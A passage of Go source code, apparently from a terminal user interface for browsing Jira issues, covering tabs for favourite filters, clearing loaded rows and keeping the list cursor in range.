	m.next, m.last = p.Next, p.Last
	if p.Total >= 0 {
		m.total = p.Total
	}
	return added
}

// onFilters adds the favourite filters as tabs after the saved queries.
func (m Model) onFilters(msg FiltersMsg) (Model, tea.Cmd) {
	if msg.Err != nil {
		if jiraclient.IsAuth(msg.Err) {
			return m, nil
		}
		return m, noticeCmd(common.NoticeWarning, "favourite filters not loaded: "+errorText(msg.Err))
	}
	have := map[string]bool{}
	for _, t := range m.tabs {
		have[t.JQL] = true
	}
	for _, f := range msg.Filters {
		if f.JQL == "" || have[f.JQL] {
			continue
		}
		have[f.JQL] = true
		m.tabs = append(m.tabs, Tab{Name: f.Name, JQL: f.JQL, Filter: true})
	}
	return m, nil
}

// dropRows forgets the loaded issues and the filter's search over them
// (the filter text stays: an empty result applies it until rows come).
func (m *Model) dropRows() {
	m.issues, m.index, m.hay = nil, nil, nil
	m.f.gen++
	m.f.cur, m.f.prev, m.f.stepping, m.f.target = nil, nil, false, ""
	m.matches = nil
	if m.filterIn.Value() != "" {
		m.matches = []int{}
	}
}

// fix keeps the cursor in range and visible.
func (m *Model) fix() {
	n := m.rowCount()
	m.cursor = max(0, min(m.cursor, n-1))
	rows := max(1, m.listRows())
	if m.cursor < m.offset {
		m.offset = m.cursor
	}
	if m.cursor >= m.offset+rows {
		m.offset = m.cursor - rows + 1
	}
	m.offset = max(0, min(m.offset, n-rows))
}
